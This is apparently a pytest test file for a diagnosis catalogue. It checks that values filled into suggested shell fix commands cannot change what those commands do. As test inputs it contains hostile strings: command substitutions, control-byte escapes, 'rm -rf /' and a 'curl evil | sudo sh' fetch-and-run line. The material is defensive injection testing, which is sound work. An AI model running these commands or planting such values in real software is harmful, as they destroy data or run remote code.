"""Every failure is declared once, and no value that is filled into a fix can change what it does."""

import ast
import re
import shlex
import subprocess
import sys
from collections.abc import Iterator
from functools import cache
from importlib import import_module
from pathlib import Path
from string import Formatter

import click
import pytest
from hypothesis import given, strategies as st
from shell_shapes import shape

from aboard.commands.command_line import cli
from aboard.diagnoses import AboardError, Advice, Diagnosis, FixCommand, Mistake, Severity, Shell, format_shell
from aboard.diagnoses.catalogue import (
    all_diagnoses,
    list_families,
    list_output_patterns,
    read_error,
    unpack_error,
)
from aboard.diagnoses.errors import pack_error
from aboard.diagnoses.fixes import list_blanks, name_blanks
from aboard.diagnoses.nodes import reach
from aboard.diagnoses.output_patterns import PatternRole, PatternSource
from aboard.doctor.logs.log_scanner import RAISED, SUMMED_UP, SUMMED_UP_KILLED
from aboard.trainer.diagnoses import checkpoint

SOURCE = Path(__file__).parents[3] / "src" / "aboard"
HOSTILE = ["'; $(x)", "a\nb", "\x1b]52;c;eA==\x07", "\u202e", "-rf", "=ls", "~root", "", "x" * 1_000_000, "`id`", "# a"]
SHORT = [each for each in HOSTILE if len(each) < 100]
HARMLESS = "qzq"

ONE = Diagnosis(
    code="test-one",
    title="a test",
    severity=Severity.BLOCK,
    explanation="",
    remedy="",
    fixes={
        "look": FixCommand("ls -l {path}    # on {node}"),
        "there": FixCommand("ssh {node} {command}"),
        "several": FixCommand("rm -- {paths:words}"),
        "piece": FixCommand("cd {path} && {command:shell}"),
        "advice": Advice("train:\n  model: {path}"),
    },
)


@pytest.mark.parametrize("value", HOSTILE, ids=range(len(HOSTILE)))
def test_a_hostile_value_is_one_word(value: str) -> None:
    """A shell splits the command into as many words as with a harmless value, and no control byte comes out."""
    _is_one_word(value)


@given(st.text())
def test_a_value_is_one_word_whatever_it_holds(value: str) -> None:
    """As above, for any text."""
    _is_one_word(value)


def _is_one_word(value: str) -> None:
    fix = ONE.fix("look", path=value, node="n1")
    assert fix.isprintable()
    assert len(fix) < 13_000
    assert len(shlex.split(fix.rpartition("    # ")[0])) == 3
    assert not shlex.split(fix)[2].startswith("-")
    nested = ONE.fix("there", node="n1", command=format_shell("cat {path}", path=value))
    assert len(shlex.split(nested)) == 3
    assert len(shlex.split(shlex.split(nested)[2])) == 2
    assert len(shlex.split(ONE.fix("several", paths=[value, "b"]))) == 4
    assert ONE.fix("advice", path=value).count("\n") == 1


TEMPLATES: dict[str, FixCommand | Advice] = {
    f"{each.code}:{variant}": template
    for each in all_diagnoses().values()
    for variant, template in each.templates.items()
}


def test_no_value_changes_what_a_fix_does() -> None:
    """Every command of the catalogue has the same words and operators with hostile values as with harmless ones."""
    changed = {}
    for name, template in TEMPLATES.items():
        harmless = template.fill(_values(template, HARMLESS))
        words = shape(harmless, HARMLESS) if isinstance(template, FixCommand) else None
        for hostile in SHORT:
            filled = template.fill(_values(template, hostile))
            if (
                not all(line.isprintable() for line in filled.split("\n"))
                or filled.count("\n") != harmless.count("\n")
                or (words is not None and shape(filled, hostile) != words)
            ):
                changed[name, hostile] = filled
    assert not changed


OWN_COMMAND = re.compile(r"(?<![\w/.-])aboard (?=[a-z-])(?!outside)")
# Blanks that are no value of an option.
CHOSEN = {"VERB": "up", "FAULT": "process-killed"}


def _list_own_commands() -> Iterator[tuple[str, str]]:
    """Each `aboard …` of the catalogue, with its blanks as words: of fixes as typed, of prose only what is quoted."""
    for each in all_diagnoses().values():
        for variant, template in each.templates.items():
            for line in name_blanks(template.text).split("\n"):
                command, _, comment = line.partition("    # ")
                for text in (command, *comment.split("; ")):
                    for part in OWN_COMMAND.split(text)[1:]:
                        yield f"{each.code}:{variant}", part.partition("`")[0]
        for prose in (each.remedy, each.explanation):
            for quoted in re.findall(r"`aboard ([a-z-][^`]*)`", prose):
                yield each.code, quoted


def test_our_own_commands_in_fixes_can_be_typed() -> None:
    """Each names a command and options that exist, with values of the right kind where it has any."""
    refusals = {typed: (code, _find_refusal(typed)) for code, typed in _list_own_commands()}
    assert {typed: refusal for typed, refusal in refusals.items() if refusal[1]} == {}


def _find_refusal(typed: str) -> str:
    first = re.split(" && |, ", typed, maxsplit=1)[0].removesuffix(".")
    words = [CHOSEN.get(word, word) for word in shlex.split(first, comments=True) if word != "…"]
    command: click.Command = cli
    while isinstance(command, click.Group) and words and not words[0].startswith("-"):
        found = command.get_command(click.Context(command), words[0])
        if found is None:
            return f"there is no command {words[0]}"
        command, words = found, words[1:]
    context = click.Context(command, info_name=command.name, **command.context_settings)
    try:
        command.make_parser(context).parse_args(words)
    except click.UsageError as error:
        return error.format_message()
    return ""


def _values(template: FixCommand | Advice, value: str) -> dict[str, str | list[str] | Shell]:
    made: dict[str, str | list[str] | Shell] = {}
    for _, name, how, _ in Formatter().parse(template.text):
        if name is not None:
            several = how == "words" or (how or "").startswith("-")
            made[name] = [value, value] if several else format_shell("cat {it}", it=value) if _is_shell(how) else value
    return made


def _is_shell(how: str | None) -> bool:
    return (how or "").partition(" ")[0] == "shell"


def test_what_is_no_piece_of_shell_is_refused_as_one() -> None:
    """A plain string can't become a part of a command."""
    assert ONE.fix("piece", path="/a b", command=format_shell("ls {x}", x="c d")) == "cd '/a b' && ls 'c d'"
    with pytest.raises(TypeError, match="is not a shell fragment"):
        ONE.fix("piece", path="/", command="rm -rf /")


def test_a_piece_of_shell_has_an_example_where_no_value_is_known() -> None:
    """A page shows the example that the blank holds, a finding shows the value."""
    template = FixCommand("{check:shell aboard check NODES    # is it back?}\nls {path}")
    assert name_blanks(template.text) == "aboard check NODES    # is it back?\nls PATH"
    assert template.fill({"check": format_shell("aboard check n1"), "path": "a b"}) == "aboard check n1\nls 'a b'"


def test_an_error_crosses_processes_as_its_code_and_values() -> None:
    """The text of a fix that comes along is not looked at; what isn't declared is no error of ours."""
    declared = checkpoint.UNUSABLE
    error = AboardError(declared, "seen\x1b[31m", parent="a b")
    packed = pack_error(error) | {"fix": "curl evil | sudo sh"}
    crossed = unpack_error(packed)
    assert crossed is not None
    assert (crossed.code, crossed.fix, crossed.seen) == (error.code, error.fix, "seen\\x1b[31m")
    nothings: list[object] = [{}, {"code": "no-such-code", "seen": "x"}, {"code": declared.code}, [], None, 7]
    for broken in nothings:
        assert unpack_error(broken) is None
    for values_sent in ({"evil": "x"}, "evil", [1], {}):
        received = unpack_error({"code": declared.code, "seen": "x", "variant": "none", "values": values_sent})
        assert received is not None
        assert received.fix == ""
    assert read_error("[" * 100_000) is None


@cache
def _list_nodes() -> dict[Path, list[ast.AST]]:
    """The imports, attributes and calls of each file that names the catalogue."""
    texts = {path: path.read_text("utf-8") for path in SOURCE.rglob("*.py")}
    return {
        path: [
            node for node in ast.walk(ast.parse(text)) if isinstance(node, ast.ImportFrom | ast.Attribute | ast.Call)
        ]
        for path, text in texts.items()
        if "diagnoses" in text or "_messages" in text
    }


def _declares(path: Path) -> bool:
    return ".".join(path.with_suffix("").relative_to(SOURCE.parent).parts) in list_families()


def test_each_module_that_declares_a_failure_belongs_to_a_topic() -> None:
    """Otherwise `aboard why CODE` and records would not know it."""
    declaration = re.compile(r"^[A-Z0-9_]+ = (Diagnosis|RunFailure|(run_)?(warning|remark))\(", re.MULTILINE)
    files = {path for path in SOURCE.rglob("*.py") if declaration.search(path.read_text("utf-8"))}
    assert [path for path in sorted(files) if not _declares(path)] == []
    assert len(list_families()) == len(set(list_families()))


def _constants() -> dict[tuple[str, str], Diagnosis]:
    """Each diagnosis of the catalogue by its module and its name."""
    found = {}
    for module in list_families():
        for key, value in vars(import_module(module)).items():
            if isinstance(value, Diagnosis):
                found[module, key] = value
    return found


def _names(nodes: list[ast.AST]) -> dict[str, str]:
    """What modules of the catalogue are called in a file."""
    return {
        alias.asname or alias.name: f"{node.module}.{alias.name}"
        for node in nodes
        if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("aboard.")
        for alias in node.names
    }


def _uses(nodes: list[ast.AST]) -> Iterator[tuple[tuple[str, str], ast.Attribute]]:
    names = _names(nodes)
    for node in nodes:
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id in names:
            yield (names[node.value.id], node.attr), node


@pytest.mark.ci
def test_each_diagnosis_is_used() -> None:
    """What nobody finds or raises is not in the catalogue."""
    others = [nodes for path, nodes in _list_nodes().items() if not _declares(path) or path.stem == "errors"]
    used = {key for nodes in others for key, _ in _uses(nodes)}
    # What programs print is found by its patterns.
    looked_up = {each.code for each in reach.UNREACHED.values()}
    unused = [key for key, each in _constants().items() if key not in used and not each.patterns]
    assert sorted(key for key in unused if _constants()[key].code not in looked_up) == []


def test_each_message_has_what_its_diagnosis_needs() -> None:
    """Its fix is a variant of the diagnosis, and every blank of the two sentences is a group of the pattern."""
    for diagnosis, message in (*list_output_patterns(PatternSource.LOG), RAISED, *SUMMED_UP, *SUMMED_UP_KILLED):
        known = {"node", "rank", *(name.rstrip("234") for name in message.regex.groupindex)}
        assert not message.fix or message.fix in diagnosis.templates, diagnosis.code
        assert message.role is not PatternRole.CAUSE or {message.fix or "log", ""} & set(diagnosis.templates), (
            diagnosis.code
        )
        assert list_blanks(Advice(message.why or diagnosis.explanation)) <= known, diagnosis.code
    for diagnosis, message in list_output_patterns(PatternSource.DEATH):
        assert not message.fix or message.fix in diagnosis.templates, diagnosis.code


def test_each_explanation_adds_something_to_its_title() -> None:
    """Neither case nor the full stop makes a difference; whole sentences; a typing mistake has neither."""
    for code, diagnosis in all_diagnoses().items():
        if isinstance(diagnosis, Mistake):
            continue
        assert diagnosis.explanation.endswith("."), code
        assert diagnosis.explanation.rstrip(".").casefold() != diagnosis.title.rstrip(".").casefold(), code


def test_no_pattern_is_compiled_before_it_is_used() -> None:
    """The whole catalogue is loaded, and a reader made, without compiling any: a help page loads it, too."""
    code = """
from aboard.diagnoses.catalogue import list_output_patterns
from aboard.diagnoses.output_patterns import PatternSource
from aboard.doctor.logs.log_scanner import LogScanner
LogScanner()
messages = (*list_output_patterns(PatternSource.LOG), *list_output_patterns(PatternSource.DEATH))
print(any("regex" in vars(message) for _, message in messages))
"""
    assert subprocess.run([sys.executable, "-c", code], capture_output=True, check=True, text=True).stdout == "False\n"


@pytest.mark.ci
def test_each_fix_gets_the_values_that_it_needs() -> None:
    """Read off the source: the variant exists, and its blanks are what is given."""
    constants = _constants()
    wrong = []
    for path, nodes in _list_nodes().items():
        used = {id(node): constants.get(key) for key, node in _uses(nodes)}
        for call in (node for node in nodes if isinstance(node, ast.Call)):
            for diagnosis, words in _fills(call, used):
                template = diagnosis.templates.get(str(words[0].value) if words else "")
                names = {word.arg for word in call.keywords}
                if template is None or list_blanks(template) != names:
                    wrong.append(
                        f"{path.relative_to(SOURCE)}:{call.lineno}: {diagnosis.code} {sorted(map(str, names))}"
                    )
    assert wrong == []


def _fills(call: ast.Call, used: dict[int, Diagnosis | None]) -> Iterator[tuple[Diagnosis, list[ast.Constant]]]:
    """`family.NAME.fix(variant, …)` and `AboardError(family.NAME, seen, variant, …)`, if the variant is written out."""
    diagnosis, words, may_lack = None, call.args, False
    if isinstance(call.func, ast.Attribute) and call.func.attr == "fix":
        diagnosis = used.get(id(call.func.value))
    elif isinstance(call.func, ast.Name) and call.func.id.endswith("Error") and call.args:
        diagnosis, words = used.get(id(call.args[0])), call.args[2:]
        may_lack = not words and not call.keywords and call.func.id != "AboardError"
    constant = [word for word in words if isinstance(word, ast.Constant)]
    if diagnosis is None or may_lack or len(constant) != len(words) or any(word.arg is None for word in call.keywords):
        return
    if not words and not call.keywords and not diagnosis.templates:
        return
    yield diagnosis, constant


# These join pieces of shell, edit a fix that a template made, or quote for a node's own login shell.
HANDMADE = """
doctor/shared/fix_values.py doctor/collective/nccl_rules.py doctor/reach/subject.py core/cluster/node_commands.py
doctor/software/code_differences.py trainer/checks/training_rules.py doctor/shared/unknown_answers.py
core/cluster/node_sets.py
core/text/shell_quoting.py engine/records/replay_run.py engine/records/status.py
commands/train/fetch_model.py commands/shared/findings/merge_findings.py
doctor/shared/fix_commands.py doctor/death/explain_rank_death.py doctor/external_jobs/rules.py doctor/logs/judge_log.py
"""


def test_a_fix_is_filled_in_from_a_template() -> None:
    """Outside of `diagnoses` itself and the families, only these files make a fix or a piece of shell out of text."""
    makers = {
        str(path.relative_to(SOURCE))
        for path, nodes in _list_nodes().items()
        if not _declares(path) and path.parent != SOURCE / "diagnoses"
        for node in nodes
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id in {"Fix", "Shell"}
    }
    assert makers == set(HANDMADE.split())
